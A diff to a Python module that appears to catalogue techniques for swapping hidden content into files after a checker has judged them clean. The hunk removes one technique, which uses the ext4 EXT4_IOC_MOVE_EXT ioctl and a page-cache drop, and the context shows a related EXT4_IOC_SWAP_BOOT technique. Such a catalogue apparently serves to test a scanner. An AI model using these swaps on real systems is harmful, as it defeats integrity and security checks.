@@ -102,23 +102,6 @@ def dedupe(place: Place) -> bytes:
     return _swapped(place)
 
 
-@way("EXT4_IOC_MOVE_EXT into a judged clean file", _FAMILY, on=_EXT4, writes=True)
-def move_extents(place: Place) -> bytes:
-    """The donor gets the blocks of the file that is moved, and with them its bytes."""
-    begin(place)
-    donor = open_patiently(place.file, os.O_WRONLY)
-    secret = _secret(place)
-    fcntl.ioctl(
-        secret, syscalls.EXT4_IOC_MOVE_EXT, bytearray(struct.pack("=IIQQQQ", 0, donor, 0, 0, 2, 0))
-    )
-    os.fsync(donor)
-    os.close(secret)
-    os.close(donor)
-    with open("/proc/sys/vm/drop_caches", "w") as switch:
-        switch.write("1")
-    return _swapped(place)
-
-
 @way("EXT4_IOC_SWAP_BOOT, twice", _FAMILY, on=_EXT4, writes=True)
 def swap_boot(place: Place) -> bytes:
     """The secret goes through the boot loader's inode into a judged clean file."""
